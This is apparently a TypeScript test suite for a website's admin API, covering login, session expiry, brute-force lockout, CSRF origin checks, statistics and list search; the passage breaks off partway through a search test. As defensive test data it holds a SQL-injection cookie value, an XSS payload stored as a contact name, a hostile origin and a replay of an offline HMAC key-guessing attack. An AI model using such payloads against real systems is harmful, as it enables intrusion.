// The admin API's test suite, run unchanged against every target of admin-targets.ts: real
// Requests through the real routing, on PGlite and on a PostgreSQL server (and over HTTP).
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { ADMIN_NOTICES, type Notice } from '../../src/shared/messages/index.ts';
import { DEMO_MODE_NOTICES, TOP_PAGES_LABELS } from '../../src/shared/messages/security.ts';
import {
  CSV_FILE_NAMES,
  PREFERENCES_SOURCE,
  TOP_PAGES,
  type ConsentHistory,
  type ContactRow,
  type Insights,
  type Page,
  type SignupRow,
  type Stats,
} from '../../src/shared/admin-api.ts';
import { DEFAULT_SITE_TIME_ZONE } from '../../src/shared/site-time-zone.ts';
import { MAIL_API, type MailPage } from '../../src/shared/admin-mail-api.ts';
import { readInsights } from '../../server/admin/insights.ts';
import { parseCsv } from '../../server/csv.ts';
import { SESSION_COOKIE } from '../../server/admin/sessions.ts';
import { DEVICE_COOKIE } from '../../server/admin/device-cookie.ts';
import { createHmac } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { LOCKOUT_SECONDS, MAX_FAILURES } from '../../server/admin/throttle.ts';
import { disableLocalDemo, enableLocalDemo } from '../../server/admin/config.ts';
import { expectSecurityHeaders, freshIp, tag, type SendInit } from './form-suite.ts';
import { TEST_ADMIN_KEY, type AdminTarget } from './admin-targets.ts';
import { openAdminSession } from '../support/admin-session.ts';
import { addDays, articleTitle, calendarDays, localDate, zonedTime } from './zoned-time.ts';

const EVIL = 'https://evil.example';

/** The key's session: the spec's mark `role: "admin"`, and who it is (issue 36: "owner (key)"). */
const KEY_SESSION = { role: 'admin', email: null, staffRole: 'owner', recent: true };

/** The build's page list (dist/page-titles.json): the pages Insights may name. */
const readPageTitles = (): Record<string, string> =>
  JSON.parse(readFileSync('dist/page-titles.json', 'utf8')) as Record<string, string>;

/** Every endpoint that needs a session, with the method it answers. */
const GUARDED: [string, string][] = [
  ['GET', '/api/admin/stats'],
  ['GET', '/api/admin/insights'],
  ['GET', '/api/admin/contacts'],
  ['GET', '/api/admin/signups'],
  ['GET', '/api/admin/contacts.csv'],
  ['GET', '/api/admin/signups.csv'],
  ['DELETE', '/api/admin/contacts/1'],
  ['DELETE', '/api/admin/signups/1'],
  ['GET', '/api/admin/mail'],
  ['POST', '/api/admin/mail/1/retry'],
];

interface NewContact {
  name?: string;
  email?: string;
  subject?: string | null;
  message?: string;
  source_page?: string;
  submitted_at?: string;
}
interface NewSignup {
  email?: string;
  signup_type?: string;
  source_page?: string;
  submitted_at?: string;
}

async function expectProblem(res: Response, status: number, notice?: Notice): Promise<void> {
  const body = (await res.json()) as { error?: Notice };
  expect(res.status, JSON.stringify(body)).toBe(status);
  expectSecurityHeaders(res);
  expect(typeof body.error?.title).toBe('string');
  expect(typeof body.error?.text).toBe('string');
  if (notice) expect(body.error).toEqual(notice);
}

/**
 * `inProcess: false` (the server over HTTP) leaves out the configuration tests: they change this
 * process's environment, which a separate server process does not see.
 */
export function adminSuite(
  start: () => Promise<AdminTarget>,
  { inProcess = true }: { inProcess?: boolean } = {},
): void {
  let t: AdminTarget;
  let cookie: string;

  beforeAll(async () => {
    t = await start();
  }, 120_000);

  afterAll(async () => {
    await t?.finish();
  }, 120_000);

  // ── helpers ────────────────────────────────────────────────────────────────────────────────

  const send = (method: string, path: string, init: SendInit & { cookie?: string; origin?: string | null } = {}) => {
    const headers: Record<string, string> = { ...init.headers };
    if (init.cookie) headers.Cookie = init.cookie;
    const origin = init.origin === undefined ? (method === 'GET' ? null : t.origin) : init.origin;
    if (origin) headers.Origin = origin;
    return t.send(path, { ...init, method, headers });
  };

  const get = (path: string, init: SendInit & { cookie?: string } = {}) =>
    send('GET', path, { cookie: cookie, ...init });

  const postKey = (key: unknown, init: SendInit & { origin?: string | null } = {}) =>
    send('POST', '/api/admin/session', {
      ...init,
      headers: { 'Content-Type': 'application/json', ...init.headers },
      body: JSON.stringify({ key }),
    });

  /** Logs in and returns the Cookie header value of the new session. */
  const login = (ip = freshIp()): Promise<string> =>
    openAdminSession((path, init) => t.send(path, { ...init, ip }), t.origin, TEST_ADMIN_KEY);

  async function addContact(row: NewContact = {}): Promise<string> {
    const { rows } = await t.db.query<{ id: string }>(
      `INSERT INTO contact_submissions (name, email, subject, message, source_page, submitted_at)
       VALUES ($1, $2, $3, $4, $5, coalesce($6::timestamptz, now())) RETURNING id::text AS id`,
      [
        row.name ?? 'Ada Weaver',
        row.email ?? `writer-${tag()}@example.com`,
        row.subject === undefined ? 'A question about linen' : row.subject,
        row.message ?? 'How should I wash a linen shirt?',
        row.source_page ?? '/contact',
        row.submitted_at ?? null,
      ],
    );
    return rows[0]!.id;
  }

  async function addSignup(row: NewSignup = {}): Promise<string> {
    const { rows } = await t.db.query<{ id: string }>(
      `INSERT INTO email_signups (email, signup_type, source_page, submitted_at)
       VALUES ($1, $2, $3, coalesce($4::timestamptz, now())) RETURNING id::text AS id`,
      [
        row.email ?? `reader-${tag()}@example.com`,
        row.signup_type ?? 'Updates',
        row.source_page ?? '/',
        row.submitted_at ?? null,
      ],
    );
    return rows[0]!.id;
  }

  async function list<T>(kind: 'contacts' | 'signups', params: Record<string, string> = {}): Promise<Page<T>> {
    const res = await get(`/api/admin/${kind}?${new URLSearchParams(params)}`);
    expect(res.status).toBe(200);
    expectSecurityHeaders(res);
    return (await res.json()) as Page<T>;
  }

  async function sessionCount(): Promise<number> {
    const { rows } = await t.db.query<{ n: number }>('SELECT count(*)::integer AS n FROM admin_sessions');
    return rows[0]!.n;
  }

  // ── authentication ─────────────────────────────────────────────────────────────────────────

  describe('authentication', () => {
    it('logs in with the key: 200 {role: "admin"} and a __Host- cookie, HttpOnly, Secure, SameSite=Strict, Path=/', async () => {
      const before = await sessionCount();
      const res = await postKey(TEST_ADMIN_KEY);
      expect(res.status).toBe(200);
      expectSecurityHeaders(res);
      expect(await res.json()).toEqual(KEY_SESSION);
      const setCookie = res.headers.get('set-cookie')!;
      expect(setCookie).toMatch(new RegExp(`^${SESSION_COOKIE}=[A-Za-z0-9_-]{43};`));
      expect(SESSION_COOKIE.startsWith('__Host-')).toBe(true);
      const attrs = setCookie
        .split(';')
        .slice(1)
        .map((a) => a.trim().toLowerCase());
      expect(attrs).toEqual(expect.arrayContaining(['path=/', 'httponly', 'secure', 'samesite=strict']));
      expect(attrs.some((a) => a.startsWith('domain='))).toBe(false);
      cookie = setCookie.split(';')[0]!;
      // Stored hashed: the table never holds the token itself.
      expect(await sessionCount()).toBe(before + 1);
      const token = cookie.split('=')[1]!;
      const { rows } = await t.db.query<{ n: number }>(
        'SELECT count(*)::integer AS n FROM admin_sessions WHERE token_hash = $1',
        [token],
      );
      expect(rows[0]!.n).toBe(0);
    });

    it('no cookie lets anyone test guesses of the key offline: neither MAC is keyed with ADMIN_KEY', async () => {
      const res = await postKey(TEST_ADMIN_KEY);
      expect(res.status).toBe(200);
      const values = res.headers.getSetCookie().map((c) => c.split(';')[0]!);
      const token = values.find((v) => v.startsWith(`${SESSION_COOKIE}=`))!.split('=')[1]!;
      const [id, mac] = values
        .find((v) => v.startsWith(`${DEVICE_COOKIE}=`))!
        .split('=')[1]!
        .split('.');
      // The attack of the audit: HMAC(candidate key, "device:" + id) compared with the cookie's MAC.
      const hmac = (key: string, text: string) => createHmac('sha256', key).update(text).digest('base64url');
      expect(mac).toMatch(/^[A-Za-z0-9_-]{43}$/);
      expect(mac).not.toBe(hmac(TEST_ADMIN_KEY, `device:${id}`));
      // The stored session hash is not HMAC(key, token) either (a cookie plus a database copy).
      const { rows } = await t.db.query<{ n: number }>(
        'SELECT count(*)::integer AS n FROM admin_sessions WHERE token_hash = $1',
        [hmac(TEST_ADMIN_KEY, token)],
      );
      expect(rows[0]!.n).toBe(0);
      // The device cookie still works as one: a second log-in from that browser gets no new one.
      const again = await postKey(TEST_ADMIN_KEY, { headers: { Cookie: values.join('; ') } });
      expect(again.status).toBe(200);
      expect(again.headers.getSetCookie().some((c) => c.startsWith(`${DEVICE_COOKIE}=`))).toBe(false);
    });

    it('GET /api/admin/session: {role: "admin"} with the session, 401 without (no demo key outside demo mode)', async () => {
      const res = await get('/api/admin/session');
      expect(res.status).toBe(200);
      expectSecurityHeaders(res);
      expect(await res.json()).toEqual(KEY_SESSION);

      const anon = await get('/api/admin/session', { cookie: '' });
      expect(anon.status).toBe(401);
      expectSecurityHeaders(anon);
      expect(await anon.json()).toEqual({ error: ADMIN_NOTICES.sessionRequired });
    });

    it('refuses a wrong key with 401 "Invalid Admin Key" and no cookie', async () => {
      for (const key of ['wrong', TEST_ADMIN_KEY.toUpperCase(), TEST_ADMIN_KEY + ' ', '']) {
        const res = await postKey(key);
        expect(res.headers.get('set-cookie')).toBeNull();
        await expectProblem(res, 401, ADMIN_NOTICES.invalidKey);
      }
    });

    it('refuses a body that is not {key: string} (400) and a type that is not JSON or a form (415)', async () => {
      await expectProblem(await postKey(42), 400);
      await expectProblem(
        await send('POST', '/api/admin/session', { headers: { 'Content-Type': 'application/json' }, body: '{' }),
        400,
      );
      await expectProblem(
        await send('POST', '/api/admin/session', { headers: { 'Content-Type': 'text/plain' }, body: TEST_ADMIN_KEY }),
        415,
      );
    });

    it.each(GUARDED)('%s %s without a cookie: 401 and no data', async (method, path) => {
      await expectProblem(await send(method, path), 401, ADMIN_NOTICES.sessionRequired);
    });

    it.each(GUARDED)('%s %s with a forged or malformed cookie: 401 and no data', async (method, path) => {
      for (const forged of [
        `${SESSION_COOKIE}=${'A'.repeat(43)}`,
        `${SESSION_COOKIE}=${Buffer.alloc(32, 7).toString('base64url')}`,
        `${SESSION_COOKIE}=' OR '1'='1`,
        `rt_admin=${cookie.split('=')[1]}`,
      ]) {
        await expectProblem(await send(method, path, { cookie: forged }), 401);
      }
    });

    it('ends a session after 30 idle minutes, and after 12 hours whatever its activity', async () => {
      const idle = await login();
      await t.db.query("UPDATE admin_sessions SET last_seen_at = now() - interval '29 minutes'");
      // 29 minutes idle is still alive, and using it restarts the idle time.
      expect((await get('/api/admin/stats', { cookie: idle })).status).toBe(200);
      expect((await get('/api/admin/stats', { cookie })).status).toBe(200);

      await t.db.query("UPDATE admin_sessions SET last_seen_at = now() - interval '31 minutes'");
      for (const [method, path] of [['GET', '/api/admin/session'], ...GUARDED]) {
        await expectProblem(await send(method!, path!, { cookie: idle }), 401);
      }

      const old = await login();
      await t.db.query("UPDATE admin_sessions SET created_at = now() - interval '12 hours 1 minute'");
      for (const [method, path] of [['GET', '/api/admin/session'], ...GUARDED]) {
        await expectProblem(await send(method!, path!, { cookie: old }), 401);
      }
      cookie = await login();
    });

    it('logs out: DELETE ends the session server-side and clears the cookie', async () => {
      const session = await login();
      const before = await sessionCount();
      const res = await send('DELETE', '/api/admin/session', { cookie: session });
      expect(res.status).toBe(204);
      expectSecurityHeaders(res);
      const cleared = res.headers.getSetCookie();
      expect(cleared[0]).toMatch(new RegExp(`^${SESSION_COOKIE}=; Path=/; Max-Age=0;`));
      // The device cookie goes too (it would outlive the session by 180 days).
      expect(cleared[1]).toMatch(new RegExp(`^${DEVICE_COOKIE}=; Path=/; Max-Age=0;`));
      expect(await sessionCount()).toBe(before - 1);
      // The browser may still send the old cookie: it opens nothing.
      for (const [method, path] of [['GET', '/api/admin/session'], ...GUARDED]) {
        await expectProblem(await send(method!, path!, { cookie: session }), 401);
      }
      // The other session is untouched.
      expect((await get('/api/admin/stats')).status).toBe(200);
    });

    it('refuses a log-in, log-out or deletion from another origin (403)', async () => {
      const res = await postKey(TEST_ADMIN_KEY, { origin: EVIL });
      expect(res.headers.get('set-cookie')).toBeNull();
      await expectProblem(res, 403, ADMIN_NOTICES.forbidden);

      await expectProblem(await send('DELETE', '/api/admin/session', { cookie, origin: EVIL }), 403);
      expect((await get('/api/admin/session')).status).toBe(200);

      const id = await addContact();
      await expectProblem(await send('DELETE', `/api/admin/contacts/${id}`, { cookie, origin: EVIL }), 403);
      const cross = await send('DELETE', `/api/admin/contacts/${id}`, {
        cookie,
        origin: null,
        headers: { 'Sec-Fetch-Site': 'cross-site' },
      });
      await expectProblem(cross, 403);
      const { rows } = await t.db.query('SELECT 1 FROM contact_submissions WHERE id = $1', [id]);
      expect(rows).toHaveLength(1);
    });

    it('answers 405 with Allow to other methods', async () => {
      const res = await send('PUT', '/api/admin/session', { cookie });
      await expectProblem(res, 405);
      expect(res.headers.get('allow')).toBe('GET, POST, DELETE');
      const del = await send('POST', '/api/admin/stats', { cookie });
      await expectProblem(del, 405);
      expect(del.headers.get('allow')).toBe('GET');
    });
  });

  // ── brute force ────────────────────────────────────────────────────────────────────────────

  describe('brute force', () => {
    it(`locks a client out after ${MAX_FAILURES} wrong keys in 15 minutes: 429 with Retry-After, even for the right key`, async () => {
      const ip = freshIp();
      for (let i = 0; i < MAX_FAILURES; i++)
        await expectProblem(await postKey(`guess-${i}`, { ip }), 401, ADMIN_NOTICES.invalidKey);
      for (const key of ['guess-again', TEST_ADMIN_KEY]) {
        const res = await postKey(key, { ip });
        expect(res.headers.get('set-cookie')).toBeNull();
        const retryAfter = Number(res.headers.get('retry-after'));
        expect(retryAfter).toBeGreaterThan(LOCKOUT_SECONDS - 120);
        expect(retryAfter).toBeLessThanOrEqual(LOCKOUT_SECONDS);
        const body = (await res.json()) as { error: Notice };
        expect(res.status).toBe(429);
        expect(body.error.title).toBe('Too Many Attempts');
        expect(body.error.text).toMatch(/^Too many wrong keys\. Please try again in 1[45] minutes\.$/);
      }
      // Another client is not affected.
      expect((await postKey(TEST_ADMIN_KEY)).status).toBe(200);
    });

    it('is bounded: once the failures are 15 minutes old the client may try again', async () => {
      const ip = freshIp();
      for (let i = 0; i < MAX_FAILURES; i++) expect((await postKey(`guess-${i}`, { ip })).status).toBe(401);
      expect((await postKey(TEST_ADMIN_KEY, { ip })).status).toBe(429);
      // Time passes (the windows age); refused attempts did not extend the lockout.
      await t.db.query(
        "UPDATE rate_limit_hits SET window_start = window_start - interval '16 minutes' WHERE bucket = 'admin-login'",
      );
      expect((await postKey(TEST_ADMIN_KEY, { ip })).status).toBe(200);
    });

    it('a right key clears the count of earlier wrong ones', async () => {
      const ip = freshIp();
      for (let i = 0; i < MAX_FAILURES - 1; i++) expect((await postKey(`guess-${i}`, { ip })).status).toBe(401);
      expect((await postKey(TEST_ADMIN_KEY, { ip })).status).toBe(200);
      for (let i = 0; i < MAX_FAILURES; i++) expect((await postKey(`guess-${i}`, { ip })).status).toBe(401);
      expect((await postKey('guess', { ip })).status).toBe(429);
    });

    it(`lets exactly ${MAX_FAILURES} of 20 concurrent guesses through`, async () => {
      const ip = freshIp();
      const statuses = (await Promise.all(Array.from({ length: 20 }, (_, i) => postKey(`guess-${i}`, { ip })))).map(
        (r) => r.status,
      );
      expect(statuses.filter((s) => s === 401)).toHaveLength(MAX_FAILURES);
      expect(statuses.filter((s) => s === 429)).toHaveLength(20 - MAX_FAILURES);
    });
  });

  // ── data ───────────────────────────────────────────────────────────────────────────────────

  describe('stats', () => {
    it('counts known data: contacts, sign-ups, each type, and sign-ups of the last 7 × 24 hours', async () => {
      await t.db.query('DELETE FROM contact_submissions');
      await t.db.query('DELETE FROM email_signups');
      for (let i = 0; i < 3; i++) await addContact();
      const days = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString();
      await addSignup({ signup_type: 'Newsletter' });
      await addSignup({ signup_type: 'Newsletter', submitted_at: days(6.9) });
      await addSignup({ signup_type: 'Newsletter', submitted_at: days(7.1) });
      await addSignup({ signup_type: 'Updates', submitted_at: days(1) });
      await addSignup({ signup_type: 'Updates', submitted_at: days(30) });
      await addSignup({ signup_type: 'Movement', submitted_at: days(400) });
      // Double opt-in (docs/subscriptions.md): two were sent a confirmation, one of them confirmed;
      // one is pending and one unsubscribed. Each list's card counts its active (confirmed)
      // subscribers only (issue 39, item 8); the sign-ups card counts every row.
      const [pending, unsubscribed, confirmedAfterMail] = (
        await t.db.query<{ id: string }>('SELECT id::text AS id FROM email_signups ORDER BY id LIMIT 3')
      ).rows.map((r) => r.id);
      await t.db.query(
        "UPDATE email_signups SET status = 'pending', confirmation_sent_at = now() WHERE id = $1::bigint",
        [pending],
      );
      await t.db.query("UPDATE email_signups SET status = 'unsubscribed', email = NULL WHERE id = $1::bigint", [
        unsubscribed,
      ]);
      await t.db.query('UPDATE email_signups SET confirmation_sent_at = now() WHERE id = $1::bigint', [
        confirmedAfterMail,
      ]);
      const res = await get('/api/admin/stats');
      expect(res.status).toBe(200);
      expectSecurityHeaders(res);
      expect((await res.json()) as Stats).toEqual({
        totalContacts: 3,
        emailSignups: 6,
        newsletter: 1,
        updates: 2,
        movement: 1,
        thisWeek: 3,
        confirmed: 4,
        confirmation: { asked: 2, confirmed: 1 },
      });
      // A reader who confirmed and later left still counts as confirmed in the rate (the consent
      // record says they did); the list's card no longer counts them.
      const [left] = (
        await t.db.query<{ email_hash: string }>(
          "UPDATE email_signups SET status = 'unsubscribed', email = NULL WHERE id = $1::bigint RETURNING email_hash",
          [confirmedAfterMail],
        )
      ).rows;
      await t.db.query(
        `INSERT INTO consent_events (email_hash, signup_type, event, channel) VALUES ($1, 'Newsletter', 'confirmed', 'confirmation')`,
        [left!.email_hash],
      );
      const after = (await (await get('/api/admin/stats')).json()) as Stats;
      expect(after.newsletter).toBe(0);
      expect(after.confirmation).toEqual({ asked: 2, confirmed: 1 });
    });
  });

  describe('insights', () => {
    const ZONE = DEFAULT_SITE_TIME_ZONE;
    const SUM = (d: Insights['days'][number]) => d.Updates + d.Newsletter + d.Movement;

    async function insights(query = ''): Promise<Insights> {
      const res = await get(`/api/admin/insights${query}`);
      expect(res.status).toBe(200);
      expectSecurityHeaders(res);
      return (await res.json()) as Insights;
    }

    async function empty(): Promise<void> {
      await t.db.query('DELETE FROM contact_submissions');
      await t.db.query('DELETE FROM email_signups');
    }

    it('answers one entry per calendar day in the site’s zone, oldest first, ending today, zero days included', async () => {
      await empty();
      const today = localDate(new Date(), ZONE);
      for (const [query, days] of [
        ['', 30],
        ['?days=30', 30],
        ['?days=90', 90],
        ['?days=365', 365],
      ] as const) {
        const answer = await insights(query);
        expect(answer.timeZone).toBe(ZONE);
        expect(answer.days.map((d) => d.date)).toEqual(calendarDays(today, days));
        expect(answer.days.every((d) => SUM(d) === 0 && d.contacts === 0)).toBe(true);
        expect(answer.topPages).toEqual([]);
        expect(answer.totals).toEqual({ signups: 0, contacts: 0, previousPeriod: { signups: 0, contacts: 0 } });
      }
    });

    it('refuses any other period with 400', async () => {
      for (const query of ['days=7', 'days=abc', 'days=30.0', 'days=-30', 'days=3650', 'days=%00']) {
        await expectProblem(await get(`/api/admin/insights?${query}`), 400, ADMIN_NOTICES.badRequest);
      }
    });

    it('buckets by the local calendar day: a second before local midnight is the day before', async () => {
      await empty();
      const days = calendarDays(localDate(new Date(), ZONE), 30);
      const [twoAgo, yesterday] = [days[27]!, days[28]!];
      const midnight = zonedTime(yesterday, '00:00:00', ZONE);
      await addSignup({ signup_type: 'Newsletter', submitted_at: new Date(midnight.getTime() - 1000).toISOString() });
      await addSignup({ signup_type: 'Movement', submitted_at: midnight.toISOString() });
      await addContact({ submitted_at: zonedTime(yesterday, '23:59:59', ZONE).toISOString() });
      // The first instant of the period counts; the one before it belongs to the previous period.
      const start = zonedTime(days[0]!, '00:00:00', ZONE);
      await addSignup({ signup_type: 'Updates', submitted_at: start.toISOString() });
      await addSignup({ signup_type: 'Updates', submitted_at: new Date(start.getTime() - 1000).toISOString() });
      // Dated after today (a wrong clock): in no period.
      await addSignup({ submitted_at: zonedTime(addDays(days[29]!, 1), '00:00:01', ZONE).toISOString() });

      const answer = await insights();
      const on = (date: string) => answer.days.find((d) => d.date === date)!;
      expect(on(twoAgo)).toEqual({ date: twoAgo, Updates: 0, Newsletter: 1, Movement: 0, contacts: 0 });
      expect(on(yesterday)).toEqual({ date: yesterday, Updates: 0, Newsletter: 0, Movement: 1, contacts: 1 });
      expect(on(days[0]!)).toMatchObject({ Updates: 1 });
      expect(answer.totals).toEqual({ signups: 3, contacts: 1, previousPeriod: { signups: 1, contacts: 0 } });
    });

    it('counts whole local days across daylight-saving changes (23 and 25 hours)', async () => {
      await empty();
      // 2025-03-09: clocks go forward at 02:00 EST; 2025-11-02: back at 02:00 EDT (01:00–02:00 happens twice).
      const at = (iso: string, signup_type = 'Updates') => addSignup({ signup_type, submitted_at: iso });
      await at('2025-03-09T04:59:59Z'); // 23:59:59 EST on 8 March
      await at('2025-03-09T05:00:00Z'); // 00:00 EST on 9 March
      await at('2025-03-10T03:59:59Z'); // 23:59:59 EDT on 9 March: 23 hours after it began
      await at('2025-03-10T04:00:00Z'); // 00:00 EDT on 10 March
      await at('2025-11-02T05:30:00Z', 'Movement'); // 01:30 EDT on 2 November
      await at('2025-11-02T06:30:00Z', 'Movement'); // 01:30 EST, the second time round
      await at('2025-11-03T04:59:59Z', 'Movement'); // 23:59:59 EST on 2 November: 25 hours after it began
      await at('2025-11-03T05:00:00Z', 'Movement'); // 00:00 EST on 3 November
      await addContact({ submitted_at: '2025-11-02T04:00:00Z' }); // 00:00 EDT on 2 November

      const spring = await readInsights(t.db, { days: 30, timeZone: ZONE, now: '2025-03-20T16:00:00Z' });
      const springDays = Object.fromEntries(spring.days.map((d) => [d.date, d.Updates]));
      expect([springDays['2025-03-08'], springDays['2025-03-09'], springDays['2025-03-10']]).toEqual([1, 2, 1]);
      expect(spring.days.map((d) => d.date)).toEqual(calendarDays('2025-03-20', 30));

      const autumn = await readInsights(t.db, { days: 30, timeZone: ZONE, now: '2025-11-10T12:00:00Z' });
      const on = (date: string) => autumn.days.find((d) => d.date === date)!;
      expect(on('2025-11-01')).toMatchObject({ Movement: 0, contacts: 0 });
      expect(on('2025-11-02')).toMatchObject({ Movement: 3, contacts: 1 });
      expect(on('2025-11-03')).toMatchObject({ Movement: 1 });
      expect(autumn.days.map((d) => d.date)).toEqual(calendarDays('2025-11-10', 30));
      // The March rows are in the previous 30 days of neither; the November ones are this period's.
      expect(autumn.totals).toEqual({ signups: 4, contacts: 1, previousPeriod: { signups: 0, contacts: 0 } });
    });

    it('lists the ten known pages with the most sign-ups in the period, with their titles, then every other path as one unlinked count', async () => {
      await empty();
      const now = Date.now();
      const daysAgo = (n: number) => new Date(now - n * 86_400_000).toISOString();
      const add = async (page: string, n: number, ago = 1) => {
        for (let i = 0; i < n; i++) await addSignup({ source_page: page, submitted_at: daysAgo(ago) });
      };
      await add('/articles/hemp-vs-cotton', 5);
      await add('/', 4);
      await add('/stories/plant-power', 3);
      // Ten more known pages, one sign-up each: only seven of them fit.
      const known = Object.keys(readPageTitles())
        .filter((p) => p.startsWith('/articles/') && p !== '/articles/hemp-vs-cotton')
        .sort()
        .slice(0, 10);
      for (const page of known) await add(page, 1);
      // Paths the build does not know: a retired page, and what the audit posted (twelve times).
      await add('/articles/retired-article', 2);
      await add('/buy-cheap-pills-at-evil-example', 12);
      // Outside the period: counts for nothing here.
      await add('/contact', 9, 40);

      const { topPages } = await insights('?days=30');
      expect(topPages).toHaveLength(TOP_PAGES + 1);
      expect(topPages.slice(0, 3)).toEqual([
        { source_page: '/articles/hemp-vs-cotton', title: articleTitle('articles', 'hemp-vs-cotton'), signups: 5 },
        { source_page: '/', title: 'Home', signups: 4 },
        { source_page: '/stories/plant-power', title: articleTitle('stories', 'plant-power'), signups: 3 },
      ]);
      // Ties in path order.
      expect(topPages.slice(3, TOP_PAGES).map((p) => p.source_page)).toEqual(known.slice(0, 7));
      // The rest, whatever its count, is one entry without a path or title, last.
      expect(topPages[TOP_PAGES]).toEqual({ source_page: null, title: null, signups: 14 });
      expect(JSON.stringify(topPages)).not.toContain('evil-example');
      expect((await insights('?days=90')).topPages[0]).toEqual({
        source_page: '/contact',
        title: 'Contact',
        signups: 9,
      });
    });

    it('totals the period and the one of equal length before it, for growth', async () => {
      await empty();
      const days = calendarDays(localDate(new Date(), ZONE), 60);
      const noon = (date: string) => zonedTime(date, '12:00:00', ZONE).toISOString();
      for (const date of [days[59]!, days[45]!, days[30]!]) await addSignup({ submitted_at: noon(date) });
      for (const date of [days[29]!, days[0]!]) await addSignup({ signup_type: 'Movement', submitted_at: noon(date) });
      await addContact({ submitted_at: noon(days[59]!) });
      for (const date of [days[20]!, days[10]!]) await addContact({ submitted_at: noon(date) });
      // 61 days ago: before both periods.
      await addSignup({ submitted_at: noon(addDays(days[0]!, -1)) });

      const answer = await insights('?days=30');
      expect(answer.totals).toEqual({ signups: 3, contacts: 1, previousPeriod: { signups: 2, contacts: 2 } });
      expect(answer.days.reduce((n, d) => n + SUM(d), 0)).toBe(3);
      const ninety = await readInsights(t.db, { days: 90, timeZone: ZONE });
      expect(ninety.totals.signups).toBe(6);
    });

    it('names a sign-up started again from the preferences page, instead of counting it as a stranger’s path', async () => {
      await empty();
      await addSignup({ source_page: PREFERENCES_SOURCE, signup_type: 'Newsletter' });
      await addSignup({ source_page: '/', signup_type: 'Updates' });
      expect((await insights()).topPages).toEqual([
        { source_page: '/', title: 'Home', signups: 1 },
        { source_page: PREFERENCES_SOURCE, title: TOP_PAGES_LABELS.preferencesPage, signups: 1 },
      ]);
    });

    it('forgets an erased entry', async () => {
      await empty();
      const id = await addSignup({ source_page: '/articles/hemp-vs-cotton' });
      await addSignup({ source_page: '/', signup_type: 'Newsletter' });
      expect((await insights()).totals.signups).toBe(2);
      expect((await send('DELETE', `/api/admin/signups/${id}`, { cookie })).status).toBe(204);
      const answer = await insights();
      expect(answer.totals.signups).toBe(1);
      expect(answer.topPages).toEqual([{ source_page: '/', title: 'Home', signups: 1 }]);
    });
  });

  describe('lists', () => {
    it('lists newest first with every field, as text', async () => {
      const older = await addContact({ name: 'Older', submitted_at: '2025-01-01T10:00:00.000001Z', subject: null });
      const newer = await addContact({ name: '<img src=x onerror=alert(1)>', submitted_at: '2030-01-01T10:00:00Z' });
      const page = await list<ContactRow>('contacts', { limit: '200' });
      const ids = page.rows.map((r) => r.id);
      expect(ids.indexOf(newer)).toBeLessThan(ids.indexOf(older));
      const first = page.rows[0]!;
      expect(first).toEqual({
        id: newer,
        name: '<img src=x onerror=alert(1)>',
        email: expect.stringMatching(/@example\.com$/) as unknown,
        subject: 'A question about linen',
        message: 'How should I wash a linen shirt?',
        source_page: '/contact',
        submitted_at: '2030-01-01T10:00:00.000000Z',
      });
      expect(page.rows.find((r) => r.id === older)).toMatchObject({
        subject: null,
        submitted_at: '2025-01-01T10:00:00.000001Z',
      });
      for (let i = 1; i < page.rows.length; i++) {
        expect(page.rows[i - 1]!.submitted_at >= page.rows[i]!.submitted_at).toBe(true);
      }
    });

    it('pages by keyset: every row exactly once, ties broken by id, in order', async () => {
      const mark = tag();
      const same = '2029-06-01T12:00:00.123456Z';
      const made: string[] = [];
      for (let i = 0; i < 23; i++) {
        made.push(
          await addSignup({
            source_page: `/paging-${mark}`,
            submitted_at: i % 3 === 0 ? same : `2029-06-0${1 + (i % 5)}T08:00:00Z`,
          }),
        );
      }
      const seen: SignupRow[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const page: Page<SignupRow> = await list<SignupRow>('signups', {
          q: `paging-${mark}`,
          limit: '5',
          ...(cursor ? { cursor } : {}),
        });
        expect(page.rows.length).toBeLessThanOrEqual(5);
        seen.push(...page.rows);
        cursor = page.nextCursor;
        pages++;
      } while (cursor);
      expect(pages).toBe(5);
      expect(seen.map((r) => r.id).sort()).toEqual([...made].sort());
      const key = (r: SignupRow) => [r.submitted_at, BigInt(r.id)] as const;
      for (let i = 1; i < seen.length; i++) {
        const [a, ai] = key(seen[i - 1]!);
        const [b, bi] = key(seen[i]!);
        expect(a > b || (a === b && ai > bi)).toBe(true);
      }
    });

    it('refuses malformed parameters with 400', async () => {
      for (const query of [
        'limit=0',
        'limit=201',
        'limit=abc',
        'cursor=nope',
        `cursor=${Buffer.from('x|1').toString('base64url')}`,
        `q=${'a'.repeat(255)}`,
        'q=%00',
      ]) {
        await expectProblem(await get(`/api/admin/contacts?${query}`), 400, ADMIN_NOTICES.badRequest);
      }
    });
  });

  describe('search', () => {
    it('matches contacts on name, email or subject only, case-insensitively, as a substring', async () => {
      const m = tag();
      const byName = await addContact({ name: `Ada Q${m}X Weaver` });
      const byEmail = await addContact({ email: `qq${m}zz@Example.com` });
      const bySubject = await addContact({ subject: `About ${m.toUpperCase()} linen` });
      await addContact({ message: `my code is ${m}` });
      await addContact({ source_page: `/contact-${m}` });
      for (const q of [m, m.toUpperCase(), `  ${m}  `, `q${m}x`]) {
        const ids = (await list<ContactRow>('contacts', { q })).rows.map((r) => r.id);
        const expected = q.trim().toLowerCase() === `q${m}x` ? [byName] : [bySubject, byEmail, byName];
        expect(ids).toEqual(expected);
      }
    });

    it('matches sign-ups on email, signup_type or source_page only', async () => {
      const m = tag();
      const byEmail = await addSignup({ email: `Reader.${m}@example.com`, signup_type: 'Movement' });
      const byPage = await addSignup({ source_page: `/articles/${m}-linen`, signup_type: 'Updates' });
      expect((await list<SignupRow>('signups', { q: m.toUpperCase() })).rows.map((r) => r.id)).toEqual([
        byPage,
        byEmail,
      ]);
      // signup_type: every Movement row, and only those.
      const movement = (await list<SignupRow>('signups', { q: 'mOvEm', limit: '200' })).rows;
      expect(movement.length).toBeGreaterThan(0);
      expect(movement.every((r) => r.signup_type === 'Movement')).toBe(true);
      expect(movement.map((r) => r.id)).toContain(byEmail);
    });

    it('takes % _ and \\ literally', async () => {
      const m = tag();
      const pct = await addContact({ name: `100% ${m}` });
      await addContact({ name: `1000 ${m}` });
      const under = await addContact({ name: `a_b ${m}` });
      await addContact({ name: `axb ${m}` });
      const slash = await addContact({ name: `back\\slash ${m}` });
